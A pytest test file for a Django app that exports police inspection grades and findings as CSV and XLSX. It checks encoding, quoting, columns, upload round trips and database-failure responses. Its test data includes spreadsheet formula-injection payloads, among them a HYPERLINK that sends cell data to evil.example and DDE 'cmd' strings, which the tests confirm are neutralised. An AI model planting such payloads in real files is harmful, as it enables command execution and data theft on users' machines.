"""The export engine and the dataset downloads: encoding, quoting, formula neutralising, columns, upload round trip."""

import csv
import io
import zipfile
from datetime import date

import pytest
from django.conf import settings
from django.db import OperationalError
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from reports.exports import services as exports
from reports.facts.services import grades_load
from reports.models import Grade, Question, Round
from reports.vocabulary import GradeStatus, Tier
from tests.factories import (
    AreaForImprovementFactory,
    CauseOfConcernFactory,
    ForceFactory,
    GradeFactory,
    QuestionFactory,
    RecommendationFactory,
    ReportFactory,
)
from tests.reports.api_helpers import grades_of_every_kind

HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
]
AWKWARD_TEXTS = [
    "commas, inside, text",
    'a "quoted" word',
    "two\nlines",
    "windows\r\nline end",
    "a lone\rcarriage return",
    "£5 – “curly” ‘quotes’ and an en dash",
    "   leading and trailing spaces   ",
    "'apostrophe start, not a formula",
    "",
]


def read_csv(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "a CSV export starts with a UTF-8 byte-order mark"
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def download(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, url
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return b"".join(response.streaming_content)


@pytest.fixture
def grades(db) -> dict[str, Grade]:
    return grades_of_every_kind()


@pytest.fixture
def fixed_day(monkeypatch):
    monkeypatch.setattr(exports.timezone, "localdate", lambda: date(2026, 11, 23))


# --- cells ----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_gets_an_apostrophe(text):
    assert exports.cell_neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["plain", "", "'", "'apostrophe", "1-2", "a=b", " =not first", "£=", "–1"])
def test_a_harmless_cell_is_left_as_it_is(text):
    assert exports.cell_neutralise(text) == text


@given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", " ", "1", "£"]), max_size=6) | st.text())
def test_neutralising_never_leaves_a_formula_start_and_can_always_be_undone(text):
    written = exports.cell_neutralise(text)
    assert written[:1] not in exports.FORMULA_TRIGGERS
    assert exports.cell_restore(written) == text


# --- writer ---------------------------------------------------------------------------------


def writer_csv(rows, header=("name", "text")) -> bytes:
    return b"".join(exports.csv_writer_chunks(header=header, rows=rows))


def test_awkward_text_survives_a_round_trip_through_the_csv_module_and_pandas():
    import pandas as pd

    texts = AWKWARD_TEXTS + HOSTILE_TEXTS
    content = writer_csv([(f"row {i}", text) for i, text in enumerate(texts)])
    expected = [exports.cell_neutralise(text) for text in texts]

    assert [row["text"] for row in read_csv(content)] == expected
    frame = pd.read_csv(io.BytesIO(content), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(frame.columns) == ["name", "text"]
    assert frame["text"].tolist() == expected
    assert [exports.cell_restore(value) for value in frame["text"]] == texts


def test_the_file_starts_with_a_bom_and_is_utf_8_so_excel_shows_pound_signs_and_dashes():
    content = writer_csv([("x", "£5 – “ok”")])
    assert content.startswith("\ufeffname,text\n".encode())
    assert "£5 – “ok”".encode() in content


def test_fields_are_quoted_only_where_rfc_4180_needs_it_and_records_end_with_a_line_feed():
    content = writer_csv([("plain", 'say "hi", then\ngo'), ("lone\rcr", 3), ("none", None)])
    assert content.decode("utf-8-sig") == 'name,text\nplain,"say ""hi"", then\ngo"\n"lone\rcr",3\nnone,\n'


def test_rows_are_written_in_chunks_of_500_rather_than_one_per_yield():
    chunks = list(exports.csv_writer_chunks(header=["n"], rows=([n] for n in range(1234))))
    assert len(chunks) == 1 + 3  # header, 500, 500, 234
    assert [chunk.count(b"\n") for chunk in chunks[1:]] == [500, 500, 234]


def test_numbers_are_never_escaped_but_text_that_looks_like_a_negative_number_is():
    content = writer_csv([(-1, "-1")], header=("number", "text"))
    assert content.decode("utf-8-sig").splitlines()[1] == "-1,'-1"


def test_the_file_name_carries_the_filters_and_the_day(fixed_day):
    name = exports.export_filename(subject="grades", filters=["2016", None, "", "Effectiveness"])
    assert name == "peel-grades-2016-effectiveness-2026-11-23.csv"
    assert exports.export_filename(subject="grades", extension="xlsx") == "peel-grades-2026-11-23.xlsx"


def test_an_xlsx_export_stores_hostile_text_as_text_never_as_a_formula():
    from openpyxl import load_workbook

    content = exports.xlsx_bytes(
        header=["text", "n"], rows=[(text, 1) for text in HOSTILE_TEXTS] + [("bell\x07", 2)], title="Grades"
    )
    sheet = load_workbook(io.BytesIO(content))["Grades"]
    cells = list(sheet.iter_rows(min_row=2, values_only=False))
    assert [row[0].value for row in cells] == [*(text.replace("\r", "\n") for text in HOSTILE_TEXTS), "bell\ufffd"]
    assert {row[0].data_type for row in cells} == {"s"}
    assert [row[1].value for row in cells] == [1] * len(HOSTILE_TEXTS) + [2]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    assert "Open Government Licence v3.0" in str(load_workbook(io.BytesIO(content))["About"]["A1"].value)


# --- the grades dataset ---------------------------------------------------------------------


@pytest.mark.usefixtures("grades")
class TestGradesCsv:
    def test_every_grade_is_exported_once_with_the_documented_columns(self, client, fixed_day):
        response = client.get(reverse("exports:grades_csv"))
        assert response["Content-Disposition"] == 'attachment; filename="peel-grades-2026-11-23.csv"'
        rows = read_csv(b"".join(response.streaming_content))
        assert list(rows[0]) == [column.name for column in exports.GRADE_EXPORT_COLUMNS]
        assert len(rows) == Grade.objects.count()
        assert len({(row["force_slug"], row["round"], row["question_or_area"]) for row in rows}) == len(rows)

    def test_the_columns_are_a_superset_of_the_grade_facts_source(self):
        with (settings.FIXTURE_SOURCES_DIR / "grades.csv").open(encoding="utf-8", newline="") as handle:
            source_columns = next(csv.reader(handle))
        assert set(source_columns) <= {column.name for column in exports.GRADE_EXPORT_COLUMNS}
        names = [column.name for column in exports.GRADE_EXPORT_COLUMNS]
        assert len(names) == len(set(names))
        assert all(name == name.lower() and " " not in name for name in names)

    def test_grades_are_words_with_an_order_number_never_internal_codes(self, client):
        rows = read_csv(download(client, reverse("exports:grades_csv")))
        grades = {
            (g.force.slug, g.question.round.name, g.question.label): g
            for g in Grade.objects.select_related("force", "question__round")
        }
        internal_codes = {status.value for status in GradeStatus}
        for row in rows:
            grade = grades[row["force_slug"], row["round"], row["question_or_area"]]
            assert row["grade"] not in internal_codes
            assert grade.question.round.grade_word_parse(row["grade"]) == (grade.status, grade.tier)
            assert row["grade_order"] == ("" if grade.tier is None else str(grade.tier))
            assert row["carried_over"] == ("yes" if grade.carried_over else "no")
            assert exports.cell_restore(row["evidence"]) == grade.evidence
        assert {row["grade"] for row in rows} >= {tier.label for tier in Tier} | {"Not graded", "Not inspected", "Ungraded"}

    def test_the_question_column_is_the_label_people_cite(self, client):
        labels = {question.label for question in Question.objects.all()}
        rows = read_csv(download(client, reverse("exports:grades_csv")))
        assert {row["question_or_area"] for row in rows} <= labels
        assert "E1 Preventing crime, tackling ASB and keeping people safe" in {row["question_or_area"] for row in rows}
        assert "Overall effectiveness" in {row["question_or_area"] for row in rows}  # no OVERALL code

    def test_themes_and_partial_comparability_are_exported(self, client):
        rows = read_csv(download(client, reverse("exports:grades_csv")))
        question = (
            Question.objects.filter(theme__isnull=False, theme_partial=True, grades__isnull=False).select_related("theme").first()
        )
        row = next(r for r in rows if r["round"] == question.round.name and r["question_or_area"] == question.label)
        assert (row["theme"], row["theme_name"], row["theme_partial"]) == (question.theme.slug, question.theme.name, "yes")

    def test_an_export_uploads_back_through_the_grade_loader_unchanged(self, client, tmp_path):
        assert Grade.objects.filter(carried_over=True).exists() and Grade.objects.exclude(evidence="").exists()
        before = list(
            Grade.objects.order_by("pk").values("force", "question", "status", "tier", "carried_over", "source_url", "evidence")
        )
        rows = read_csv(download(client, reverse("exports:grades_csv")))
        path = tmp_path / "grades.csv"
        with path.open("w", encoding="utf-8", newline="") as handle:
            writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows({key: exports.cell_restore(value) for key, value in row.items()} for row in rows)
        rounds = {round_.slug: round_ for round_ in Round.objects.all()}
        assert grades_load(path=path, rounds=rounds) == len(before)
        after = list(
            Grade.objects.order_by("pk").values("force", "question", "status", "tier", "carried_over", "source_url", "evidence")
        )
        assert after == before

    def test_hostile_evidence_is_neutralised_and_can_be_restored(self, client, grades):
        grade = grades["north e2"]
        grade.evidence = HOSTILE_TEXTS[0]
        grade.save()
        rows = read_csv(download(client, reverse("exports:force_grades_csv", kwargs={"slug": grade.force.slug})))
        row = next(r for r in rows if r["source_url"] == grade.source_url and r["evidence"].startswith("'"))
        assert row["evidence"] == "'" + HOSTILE_TEXTS[0]
        assert exports.cell_restore(row["evidence"]) == grade.evidence

    def test_one_forces_summary_holds_its_whole_history_and_nothing_else(self, client, grades, fixed_day):
        force = grades["north overall"].force
        response = client.get(reverse("exports:force_grades_csv", kwargs={"slug": force.slug}))
        assert response["Content-Disposition"] == 'attachment; filename="peel-grades-northshire-2026-11-23.csv"'
        rows = read_csv(b"".join(response.streaming_content))
        assert len(rows) == force.grades.count() == 6
        assert {row["force_slug"] for row in rows} == {"northshire"}
        positions = dict(Round.objects.values_list("name", "position"))
        assert [row["round"] for row in rows] == sorted((row["round"] for row in rows), key=positions.get)
        assert [row["round"] for row in rows][0] == "2015"

    def test_an_unknown_force_has_no_summary(self, client):
        assert client.get("/forces/gotham/summary.csv").status_code == 404
        assert client.get("/forces/gotham/findings.csv").status_code == 404


# --- findings -------------------------------------------------------------------------------


@pytest.fixture
def bedfordshire_findings(db):
    """A report with hostile and awkward finding texts: two causes (one with recommendations) and an area for
    improvement; another force's report first, and a force with none."""
    question = QuestionFactory(code="E3", short_name="Protecting vulnerable people and supporting victims")
    ForceFactory(slug="kent")
    AreaForImprovementFactory(report__force__name="Avon and Somerset Constabulary", report__round=question.round)
    report = ReportFactory(
        force=ForceFactory(name="Dorset Police", slug="dorset"),
        round=question.round,
        pillar="Effectiveness",
        title="PEEL: Police effectiveness 2016 – Dorset Police",
        published=date(2017, 3, 2),
        source_url="https://www.justiceinspectorates.gov.uk/hmicfrs/publications/peel-police-effectiveness-2016-dorset/",
    )
    first = CauseOfConcernFactory(report=report, question=question, position=1, text='=HYPERLINK("http://evil.example")')
    RecommendationFactory(cause=first, position=1, text="-2+3+cmd|' /C calc'!A0")
    RecommendationFactory(cause=first, position=2, text="Improve, within “three months”,\nthe response to £5 – frauds")
    CauseOfConcernFactory(report=report, question=None, position=2, text="@SUM(1+1)")
    AreaForImprovementFactory(report=report, question=question, position=1, text="+ review the\r\nplan")
    return report


def test_the_findings_csv_lists_each_cause_with_its_recommendations_then_the_areas(client, bedfordshire_findings, fixed_day):
    response = client.get(reverse("exports:findings_csv"))
    assert response["Content-Disposition"] == 'attachment; filename="peel-findings-2026-11-23.csv"'
    rows = read_csv(b"".join(response.streaming_content))
    assert list(rows[0]) == [column.name for column in exports.FINDING_EXPORT_COLUMNS]
    mine = [row for row in rows if row["report_title"] == bedfordshire_findings.title]
    assert [(r["finding_type"], r["cause_number"], r["number"]) for r in mine] == [
        ("cause of concern", "1", "1"),
        ("recommendation", "1", "1"),
        ("recommendation", "1", "2"),
        ("cause of concern", "2", "2"),
        ("area for improvement", "", "1"),
    ]
    assert mine[0]["question_or_area"] == "E3 Protecting vulnerable people and supporting victims"
    assert mine[1]["question_code"] == "E3"  # a recommendation carries its cause's question
    assert mine[3]["question_or_area"] == ""
    assert (mine[0]["round"], mine[0]["report_published"], mine[0]["report_pillar"]) == ("2016", "2017-03-02", "Effectiveness")


def test_hostile_text_in_a_finding_cannot_run_as_a_formula_in_a_spreadsheet(client, bedfordshire_findings):
    import pandas as pd

    content = download(client, reverse("exports:force_findings_csv", kwargs={"slug": "dorset"}))
    texts = pd.read_csv(io.BytesIO(content), encoding="utf-8-sig", dtype=str, keep_default_na=False)["text"].tolist()
    assert texts == [
        '\'=HYPERLINK("http://evil.example")',
        "'-2+3+cmd|' /C calc'!A0",
        "Improve, within “three months”,\nthe response to £5 – frauds",
        "'@SUM(1+1)",
        "'+ review the\r\nplan",
    ]
    assert not any(text[:1] in exports.FORMULA_TRIGGERS for text in texts)


def test_a_force_with_no_findings_gets_a_file_with_just_the_header(client, bedfordshire_findings):
    content = download(client, reverse("exports:force_findings_csv", kwargs={"slug": "kent"}))
    assert content.decode("utf-8-sig") == ",".join(column.name for column in exports.FINDING_EXPORT_COLUMNS) + "\n"


# --- the documentation page -----------------------------------------------------------------


def test_the_data_page_documents_every_column_the_encoding_and_the_licence(client, grades):
    response = client.get(reverse("exports:data"))
    assert response.status_code == 200
    html = response.content.decode()
    for column in (*exports.GRADE_EXPORT_COLUMNS, *exports.FINDING_EXPORT_COLUMNS):
        assert f"<code>{column.name}</code>" in html
    for needed in (
        "Crown copyright",
        "Open Government Licence v3.0",
        exports.LICENCE_URL,
        "byte-order mark",
        "RFC 4180",
        "OWASP",
    ):
        assert needed in html
    assert 'href="/data/grades.csv"' in html and 'href="/forces/northshire/summary.csv"' in html
    assert "10 rows" in html


@pytest.fixture
def kent(db):
    """A force with a grade and a finding about crime: every download below has rows to give."""
    grade = GradeFactory(force=ForceFactory(name="Kent Police", slug="kent"))
    AreaForImprovementFactory(report__force=grade.force, text="The force should record crime accurately.")
    return grade.force


def database_down(execute, sql, params, many, context):
    raise OperationalError('connection to server at "127.0.0.1", port 5432 failed: Connection refused')


@pytest.mark.parametrize(
    "url",
    [
        "/data/grades.csv",
        "/data/findings.csv",
        "/forces/kent/summary.csv",
        "/forces/kent/findings.csv",
        "/forces/?_export=csv",
        "/findings/?q=crime&_export=xlsx",
    ],
)
def test_a_download_asks_the_database_before_its_first_byte_and_is_a_503_when_it_does_not_answer(client, kent, url):
    from django.db import connection

    with connection.execute_wrapper(database_down):
        response = client.get(url)
    assert response.status_code == 503
    assert not response.streaming
    assert "database is not answering" in response.content.decode()
    assert response["Retry-After"] == "30"
